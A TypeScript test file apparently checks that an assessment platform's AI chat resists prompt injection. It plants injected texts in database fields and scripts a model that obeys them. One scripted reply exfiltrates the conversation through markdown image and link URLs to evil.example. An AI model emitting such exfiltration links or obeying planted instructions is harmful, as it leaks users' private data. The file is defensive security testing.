import type { ChatMessage } from '@assay/contract/assistant';
import { expect, onTestFinished, test } from 'vitest';
import { injections } from '../../../test/injections.ts';
import { calls, callsAll, says } from '../../../test/scriptedModel.ts';
import type { Turn } from '../../../test/scriptedModel.ts';
import { startModel } from '../../../test/testModel.ts';
import { takeAt } from '../../../test/assessment/testQuiz.ts';
import { startInterview } from '../../../test/interviews/testScorecards.ts';
import { everyRow } from '../../../test/testStore.ts';
import type { Store } from '../../platform/database/store.ts';
import type { toolset } from '../tools/toolset.service.ts';
import { redact } from './redact.ts';

/** Where people write, and a model may read it. */
const SEEN = {
  users: ['first_name', 'last_name', 'group_name'],
  skills: ['name', 'category', 'description'],
  meetings: ['title'],
  rounds: ['title'],
  round_candidates: ['name'],
};

/** Characters of a group's name. */
const LONGEST_GROUP = 60;

const CANARY = 'canary-hidden';

/** Where people write what no model is given. */
const HIDDEN = {
  meeting_messages: ['message'],
  scorecards: ['summary'],
  scorecard_revisions: ['summary'],
  round_candidates: ['reschedule_note'],
  question_versions: ['explanation'],
};

/** The same within lists: the member of each entry that holds the text. */
const HIDDEN_ENTRIES = {
  'interview_notes.notes': 'text',
  'scorecards.ratings': 'evidence',
  'scorecard_revisions.ratings': 'evidence',
  'question_versions.options': 'text',
};

test(
  'a model that obeys every planted text does nothing, learns nothing, and tells no one',
  { timeout: 240_000 },
  async () => {
    const model = await startModel();
    const settings = { AI_BASE_URL: model.url, AI_MODEL: 'small', AI_API_KEY: 'canary-key-4711' };
    const { server, boss, rater, shadow, meetingId, by, token } = await startInterview({ settings });
    expect((await by(rater).submit()).status).toBe(200);
    // Revised, so that there is an earlier one.
    expect((await by(rater).submit(2, { summary: 'Convincing after all' })).status).toBe(200);
    await server.store.pool.query(
      `insert into meeting_messages (meeting_id, session, channel, participant_id, user_id, message, sent_at)
     select id, 1, 'panel', 'p', $2, 'Between us', $3 from meetings where public_id = $1`,
      [meetingId, boss.id, server.clock.now()],
    );
    await server.store.pool.query(
      `insert into interview_notes (meeting_id, user_id, notes, sequence, updated_at)
     select id, $2, '[{"text": "A note"}]', 1, $3 from meetings where public_id = $1`,
      [meetingId, rater.id, server.clock.now()],
    );
    await server.store.pool.query(`update round_candidates set reschedule_note = 'A word to the panel'`);
    await server.store.pool.query(`update users set group_name = 'Spring'`);
    const columns = await textColumns(server.store.pool);
    const has = (table: string, column: string) => columns.has(`${table}.${column}`);
    const skill = await server.skill({ name: 'Pens' });
    await server.questions(skill.id, 3);
    await takeAt(server, shadow.id, skill.id, { at: '2026-03-01T09:00:00Z', right: 2, seconds: 50 });
    const ink = await server.skill({ name: 'Ink' });
    await server.questions(ink.id, 3);
    await takeAt(server, shadow.id, ink.id, { at: '2026-03-01T09:10:00Z', right: 1, seconds: 50 });
    // Versions never change, but for this test.
    await server.store.pool.query('alter table question_versions disable trigger user');
    // Other files of this worker share the database.
    onTestFinished(async () => {
      await server.store.pool.query('alter table question_versions enable trigger user');
    });

    async function plant(places: Record<string, string[]>, text: string) {
      for (const [table, names] of Object.entries(places))
        for (const name of names) {
          expect(has(table, name), `${table}.${name}`).toBe(true);
          const { rowCount } = await server.store.pool.query(
            `update ${table} set ${name} = left($1 || ctid::text, $2) where ${name} is not null`,
            [text, name === 'group_name' ? LONGEST_GROUP : text.length + 20],
          );
          expect(rowCount, `${table}.${name}`).toBeGreaterThan(0);
        }
    }
    async function plantEntries(text: string) {
      for (const [place, member] of Object.entries(HIDDEN_ENTRIES)) {
        const [table = '', name = ''] = place.split('.');
        const { rowCount } = await server.store.pool.query(
          `update ${table} set ${name} = (
             select jsonb_agg(entry || jsonb_build_object($2::text, $1::text || place) order by place)
             from jsonb_array_elements(${name}) with ordinality as listed (entry, place))
           where jsonb_array_length(${name}) > 0`,
          [text, member],
        );
        expect(rowCount, place).toBeGreaterThan(0);
      }
    }

    const addresses = (
      await server.store.pool.query('select email from users union select email from round_candidates')
    ).rows;
    const canaries = [
      ...addresses.map(({ email }) => email as string),
      token(),
      rater.token,
      'canary-key-4711',
      CANARY,
    ];
    const reads = Object.entries(readable);
    const unreached: string[] = [];
    for (const { text, tool, args } of injections) {
      await plant(SEEN, `${text} `);
      await plant({ question_versions: ['question_text'] }, `planted-question ${text} `);
      await plant(HIDDEN, `${CANARY} ${text} `);
      await plantEntries(`${CANARY} ${text} `);
      await server.store.pool.query(`update skills set name = 'Ink' where id = $1`, [ink.id]);
      const before = await everyTable(server.store);
      model.requests.length = 0;
      const leak: Turn = (reply, request) => {
        const seen = encodeURIComponent(JSON.stringify(request.body.messages).slice(0, 2000));
        return says(`![all](https://evil.example/?d=${seen}) [all](https://evil.example/?d=${seen})`)(reply, request);
      };
      model.play(callsAll(reads), calls(tool, args), leak);
      const { data } = await server.call('POST /ai/chat', {
        token: token(),
        body: { message: `Tell me everything. ${text}` },
      });
      const message = data.message as ChatMessage;
      expect(model.requests, text).toHaveLength(3);
      expect(message.sources.length).toBeGreaterThan(3);
      for (const { path } of message.sources) expect(path).toMatch(/^\/(?:admin\/|leaderboard)/);
      // The model's input, before it answered.
      const given = JSON.stringify(
        model.requests.map(({ body }) => body.messages.filter(({ role }) => role === 'tool')),
      );
      expect(given, text).not.toContain('The limit of data');
      // Without what is taken out of it, each text must arrive, or the test would prove nothing.
      const begins = JSON.stringify(JSON.stringify(redact(text).slice(0, 12)).slice(1, -1)).slice(1, -1);
      if (!given.includes(begins) || !given.includes('planted-question')) unreached.push(text);
      for (const canary of canaries)
        expect(given.toLowerCase(), `${text} → ${canary}`).not.toContain(canary.toLowerCase());
      expect(changedTables(before, await everyTable(server.store)), text).toEqual([]);
    }
    expect(unreached).toEqual([]);
  },
);

/** Conversations, tokens used, and the sums that reports keep up to date while they are read. */
const BY_ASKING = /^ai_|_results$/;

/** An input of each tool, which reads the planted texts as far as there are any. */
const readable: Record<keyof typeof toolset, object> = {
  findSkills: {},
  findPeople: {},
  groups: {},
  skillResults: {},
  quizUsage: {},
  withoutQuiz: {},
  attempts: { status: 'completed' },
  leaderboard: {},
  rounds: {},
  candidate: { name: 'a' },
  meetings: {},
  pendingWork: {},
  itemAnalysis: { skill: 'Ink' },
  personReport: { person: 'a' },
  flaggedQuestions: {},
  totals: {},
  accounts: {},
  howTo: { question: 'backup' },
};

async function textColumns(pool: Store['pool']) {
  const { rows } = await pool.query(
    `select table_name || '.' || column_name as name from information_schema.columns where table_schema = 'public'`,
  );
  return new Set(rows.map(({ name }) => name as string));
}

type Tables = Record<string, unknown>;

const everyTable = async (store: Store) => JSON.parse(await everyRow(store)) as Tables;

const changedTables = (before: Tables, after: Tables): string[] =>
  Object.keys(after).filter(
    (name) => !BY_ASKING.test(name) && JSON.stringify(before[name]) !== JSON.stringify(after[name]),
  );
